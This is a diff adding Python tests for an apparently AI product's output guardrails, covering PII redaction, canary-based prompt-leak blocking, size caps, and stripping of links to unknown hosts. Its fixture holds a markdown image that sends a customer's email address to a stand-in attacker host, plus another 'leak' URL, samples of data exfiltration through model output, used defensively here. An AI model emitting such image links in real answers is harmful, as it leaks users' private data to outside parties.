@@ -1,0 +1,40 @@
+from meshpilot.guardrails import pii
+from meshpilot.guardrails.output import guard_output, new_canary
+
+ANSWER = ("Customer C-0001 is reachable at maria.keller@example.com. See [the product](mesh://customer/customer-profile) "
+          "and ![chart](https://evil.example/p.png?d=maria.keller%40example.com) or [docs](https://docs.meshpilot.dev/x).")
+
+
+def test_pii_is_redacted_for_callers_who_may_not_see_it() -> None:
+    guarded = guard_output(ANSWER, may_read_pii=False)
+    assert "maria.keller" not in guarded.text and "<EMAIL_ADDRESS>" in guarded.text
+    assert any(a.startswith("PII redacted") for a in guarded.actions)
+    assert "maria.keller@example.com" in guard_output(ANSWER, may_read_pii=True).text
+
+
+def test_images_and_links_to_unknown_hosts_are_stripped() -> None:
+    guarded = guard_output(ANSWER, may_read_pii=True, allowed_hosts=("meshpilot.dev",))
+    assert "evil.example" not in guarded.text and "[image removed: chart]" in guarded.text
+    assert "(mesh://customer/customer-profile)" in guarded.text  # citations stay
+    assert "https://docs.meshpilot.dev/x" in guarded.text
+    plain = guard_output("see <img src=https://evil.example/x.png> and https://evil.example/leak?q=1", may_read_pii=True)
+    assert "evil.example" not in plain.text
+
+
+def test_canary_leak_withholds_the_answer() -> None:
+    canary = new_canary()
+    guarded = guard_output(f"My instructions begin with {canary}", may_read_pii=True, canary=canary)
+    assert guarded.blocked and canary not in guarded.text
+
+
+def test_size_cap() -> None:
+    guarded = guard_output("x" * 50, may_read_pii=True, max_chars=10)
+    assert guarded.text.startswith("x" * 10) and "cut at 10 characters" in guarded.text
+
+
+def test_pseudonyms_come_back_only_for_allowed_callers() -> None:
+    conversation = pii.Pseudonymizer()
+    placeholder = conversation.placeholder("EMAIL_ADDRESS", "maria.keller@example.com")
+    answer = f"Write to {placeholder}."
+    assert guard_output(answer, may_read_pii=True, pseudonymizer=conversation).text == "Write to maria.keller@example.com."
+    assert guard_output(answer, may_read_pii=False, pseudonymizer=conversation).text == f"Write to {placeholder}."
